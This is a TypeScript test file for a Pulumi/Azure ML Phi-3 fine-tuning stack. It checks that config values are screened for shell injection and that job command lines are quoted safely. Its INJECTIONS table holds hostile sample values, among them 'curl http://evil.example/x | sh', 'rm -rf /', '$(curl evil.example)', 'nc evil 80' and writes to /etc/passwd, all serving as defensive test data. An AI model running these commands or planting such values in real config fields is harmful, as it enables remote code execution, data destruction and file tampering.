/**
 * Nothing from config reaches a shell unvalidated (issue 14, point 1): values that reach a job
 * command are checked against strict patterns when the config is parsed (injection attempts
 * are refused naming the key, before any resource is registered), and every command line the
 * stack builds parses back into exactly the program and the raw argument values.
 */
import * as fs from "fs";
import { describe, expect, it } from "vitest";
import { configProblems } from "./helpers/config";
import { ConfigError, parseConfig, type RawConfig } from "../infra/config";
import { BINDING, commandLine, HF_REPO_ID, shellQuote, splitShellWords } from "../infra/shell";
import { FINE_TUNE_JOB_FLAGS, fineTuneArguments, fineTuneCommand, prepArguments, prepCommand } from "../infra/training";
import { readStackConfig } from "../lib/mock-runtime";
import { rawProjectConfig } from "../infra/config";
import { commandEnv, ofType, ROOT, runStack } from "./helpers/stack";

const json = (v: unknown) => JSON.stringify(v);
const ultrachat = (over: Record<string, unknown>) => ({ data: json({ source: "ultrachat", ...over }) });

const problems = configProblems;

/** [label, raw config, key that must be named]: every config string that reaches a job command. */
const INJECTIONS: [string, RawConfig, string][] = [
  ["dataset; curl | sh", ultrachat({ dataset: "HuggingFaceH4/ultrachat_200k; curl http://evil.example/x | sh" }), "phi3-finetune:data.dataset"],
  ["dataset && rm", ultrachat({ dataset: "HuggingFaceH4/ultrachat_200k && rm -rf /" }), "phi3-finetune:data.dataset"],
  ["dataset $()", ultrachat({ dataset: "$(curl evil.example)" }), "phi3-finetune:data.dataset"],
  ["dataset backticks", ultrachat({ dataset: "`id`/x" }), "phi3-finetune:data.dataset"],
  ["dataset newline", ultrachat({ dataset: "HuggingFaceH4/ultrachat_200k\ncurl evil.example" }), "phi3-finetune:data.dataset"],
  ["dataset single quote", ultrachat({ dataset: "a'b/c" }), "phi3-finetune:data.dataset"],
  ["dataset double quote", ultrachat({ dataset: 'a"b/c' }), "phi3-finetune:data.dataset"],
  ["dataset pipe", ultrachat({ dataset: "x/y|nc evil 80" }), "phi3-finetune:data.dataset"],
  ["dataset redirect", ultrachat({ dataset: "x/y>/etc/passwd" }), "phi3-finetune:data.dataset"],
  ["dataset path traversal", ultrachat({ dataset: "../../etc/passwd" }), "phi3-finetune:data.dataset"],
  ["dataset space and flag", ultrachat({ dataset: "x/y --trust-remote-code" }), "phi3-finetune:data.dataset"],
  ["dataset ${} expansion", ultrachat({ dataset: "${HOME}/x" }), "phi3-finetune:data.dataset"],
  ["split breaks out of quotes", ultrachat({ split: "train_sft[:1%]'; id; echo '" }), "phi3-finetune:data.split"],
  ["split $()", ultrachat({ split: "train_sft[:$(id)]" }), "phi3-finetune:data.split"],
  ["split ;", ultrachat({ split: "train_sft[:1%];reboot" }), "phi3-finetune:data.split"],
  ["split newline", ultrachat({ split: "train_sft[:1%]\nreboot" }), "phi3-finetune:data.split"],
  ["testSize as a string with &&", ultrachat({ testSize: "0.2 && id" }), "phi3-finetune:data.testSize"],
  ["data seed as a string with ;", ultrachat({ seed: "0;id" }), "phi3-finetune:data.seed"],
  ["baseModel ;", { baseModel: "microsoft/Phi-3-mini-4k-instruct; id" }, "phi3-finetune:baseModel"],
  ["baseModel $()", { baseModel: "$(curl evil.example)" }, "phi3-finetune:baseModel"],
  ["lrScheduler &&", { hyperparameters: json({ lrScheduler: "cosine && id" }) }, "phi3-finetune:hyperparameters.lrScheduler"],
  ["epochs as a string with backticks", { hyperparameters: json({ epochs: "3`id`" }) }, "phi3-finetune:hyperparameters.epochs"],
  ["learningRate as a string with ;", { hyperparameters: json({ learningRate: "5e-6;id" }) }, "phi3-finetune:hyperparameters.learningRate"],
  ["servedDtype quote", { training: json({ servedDtype: "float16' 'x" }) }, "phi3-finetune:training.servedDtype"],
];

describe("injection attempts are refused at plan time, naming the key", () => {
  it("covers at least 15 attempts across every config string that reaches a command", () => {
    expect(INJECTIONS.length).toBeGreaterThanOrEqual(15);
    const keys = new Set(INJECTIONS.map(([, , key]) => key));
    for (const k of ["data.dataset", "data.split", "baseModel", "hyperparameters.lrScheduler", "training.servedDtype"]) expect(keys).toContain(`phi3-finetune:${k}`);
  });

  it.each(INJECTIONS)("%s", (_label, raw, key) => {
    const issues = problems(raw);
    expect(issues.some((i) => i.startsWith(`${key}:`)), issues.join("\n")).toBe(true);
    for (const i of issues) expect(i).not.toMatch(/\n\s+at /); // a message, not a stack trace
  });

  it("the issue's example fails the program before any resource is registered", async () => {
    const err = await runStack({ overrides: { data: { source: "ultrachat", dataset: "HuggingFaceH4/ultrachat_200k; curl http://evil.example/x | sh" } } }).then(
      () => undefined,
      (e) => e,
    );
    expect((err as Error).name).toBe("ConfigError"); // another module instance (modules are reset per run)
    expect((err as ConfigError).message).toContain("phi3-finetune:data.dataset");
    expect((err as { registrations: unknown[] }).registrations).toEqual([]);
  });
});

describe("well-formed values pass", () => {
  it.each(["HuggingFaceH4/ultrachat_200k", "squad", "org.name/data_set-1.2", "a/b"])("dataset %s", (dataset) => {
    expect(() => parseConfig({ location: "eastus2", ...ultrachat({ dataset }) })).not.toThrow();
    expect(HF_REPO_ID.test(dataset)).toBe(true);
  });
  it.each(["a--b/c", "a/b..c", "-a/b", "a/b.", "a/b/c", ""])("dataset %j is not a repo id", (dataset) => {
    expect(HF_REPO_ID.test(dataset)).toBe(false);
  });
});

describe("shell quoting", () => {
  // A small deterministic generator (no dependency): strings over an alphabet rich in shell syntax.
  const ALPHABET = "ab/_.-:%=@+,09 \t'\"$`\\;&|<>()[]*?#!~{}\n";
  function* strings(n: number, seed = 42): Generator<string> {
    let x = seed;
    const next = () => (x = (x * 1103515245 + 12345) % 2 ** 31);
    for (let k = 0; k < n; k++) {
      const len = next() % 12;
      let s = "";
      for (let i = 0; i < len; i++) s += ALPHABET[next() % ALPHABET.length];
      yield s;
    }
  }

  it("round-trips any string as exactly one shell word", () => {
    for (const s of strings(2000)) expect(splitShellWords(shellQuote(s)), JSON.stringify(s)).toEqual([s]);
  });

  it("leaves safe words and Azure ML bindings bare, quotes the rest", () => {
    expect(shellQuote("HuggingFaceH4/ultrachat_200k")).toBe("HuggingFaceH4/ultrachat_200k");
    expect(shellQuote("train_sft[:1%]")).toBe("'train_sft[:1%]'");
    expect(shellQuote("a'b")).toBe(`'a'"'"'b'`);
    expect(commandLine(["python", "x.py"], [["--in", "${{inputs.train_file}}"], ["--v", "$(id)"]])).toBe("python x.py --in ${{inputs.train_file}} --v '$(id)'");
    expect(() => commandLine(["python"], [["--a; id", "x"]])).toThrow(/not a --flag/);
  });

  it.each([
    ["a;b", /operator ";"/],
    ["a && b", /operator "&"/],
    ["a | b", /operator "\|"/],
    ["a $(id)", /expansion/],
    ["a `id`", /operator "`"/],
    ["a\nb", /operator "\\n"/],
    ["a > f", /operator ">"/],
    ['"$HOME"', /inside double quotes/],
    ["'open", /unterminated/],
    ["x[:1%]", /operator "\["/],
  ])("refuses %j", (cmd, message) => {
    expect(() => splitShellWords(cmd)).toThrow(message);
  });
});

describe("every job command of every stack is one program with the raw argument values", () => {
  const stacks = fs.readdirSync(ROOT).filter((f) => /^Pulumi\.[^.]+\.yaml$/.test(f)).map((f) => f.slice(7, -5));

  it.each(stacks)("stack %s", async (stack) => {
    const { config } = parseConfig(rawProjectConfig(readStackConfig(ROOT, stack).config));
    const expectWords = (command: string, program: string[], args: [string, string][], flags: readonly string[] = []) => {
      expect(splitShellWords(command)).toEqual([...program, ...args.flat(), ...flags]);
      // Only Azure ML bindings stay unquoted among the values that carry shell syntax.
      for (const [, value] of args) if (value.includes("$")) expect(value).toMatch(BINDING);
    };
    expectWords(fineTuneCommand(config), ["python", "fine_tune.py"], fineTuneArguments(config), FINE_TUNE_JOB_FLAGS);
    if (config.data.source === "ultrachat") expectWords(prepCommand(config.data), ["python", "prepare_data.py"], prepArguments(config.data));

    // The commands the program actually submits (job bodies of the submit steps) parse the same way.
    const run = await runStack({ stack });
    const submitted = ofType(run, "command:local:Command")
      .map((r) => commandEnv(r).AZUREML_JOB_BODY)
      .filter(Boolean)
      .map((b) => JSON.parse(b).properties)
      .filter((p) => p.jobType === "Command") // managed mode's pipeline job runs no command of ours
      .map((p) => p.command as string);
    expect(submitted.length).toBe((config.data.source === "ultrachat" ? 1 : 0) + (config.training.mode === "script" ? 1 : 0));
    for (const command of submitted) expect(() => splitShellWords(command)).not.toThrow();
    // The fine-tune job does not upload the model a second time (issue 20 item 8): the stack
    // registers its model_output; fine_tune.py's --log-model-to-run would copy ~7.6 GB again.
    const fineTune = submitted.map(splitShellWords).filter((w) => w[1] === "fine_tune.py");
    expect(fineTune.length).toBe(config.training.mode === "script" ? 1 : 0);
    for (const words of fineTune) {
      expect(words).toContain("--no-log-model-to-run");
      expect(words).not.toContain("--log-model-to-run");
    }
  });

  it("quotes an odd but valid dataset id and split without changing them", () => {
    const { config } = parseConfig({ location: "eastus2", ...ultrachat({ dataset: "org.x/name_y-1.2", split: "test_gen[:100%]" }) });
    if (config.data.source !== "ultrachat") throw new Error("ultrachat expected");
    const words = splitShellWords(prepCommand(config.data));
    expect(words.slice(2, 6)).toEqual(["--dataset", "org.x/name_y-1.2", "--split", "test_gen[:100%]"]);
  });
});
